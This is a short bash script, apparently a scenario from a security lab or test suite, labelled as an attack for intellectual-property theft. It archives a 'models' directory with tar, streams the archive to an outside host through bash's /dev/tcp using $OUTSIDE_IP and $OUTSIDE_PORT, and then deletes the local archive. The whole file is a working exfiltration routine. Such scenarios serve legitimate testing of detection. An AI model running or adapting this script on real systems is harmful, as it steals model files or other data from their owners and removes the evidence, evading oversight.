#!/usr/bin/env bash
# scenario: the models archived with tar, the archive sent to the outside host
# kind: attack
# vector: IP theft
# expect: Twin files archived then sent out
# chain: script
set -euo pipefail
source "$LAB_ENV"
arc=/var/tmp/tglab-models.$$.tgz
tar czf "$arc" -C "$LAB" models
cat "$arc" >"/dev/tcp/$OUTSIDE_IP/$OUTSIDE_PORT"
rm -f "$arc"
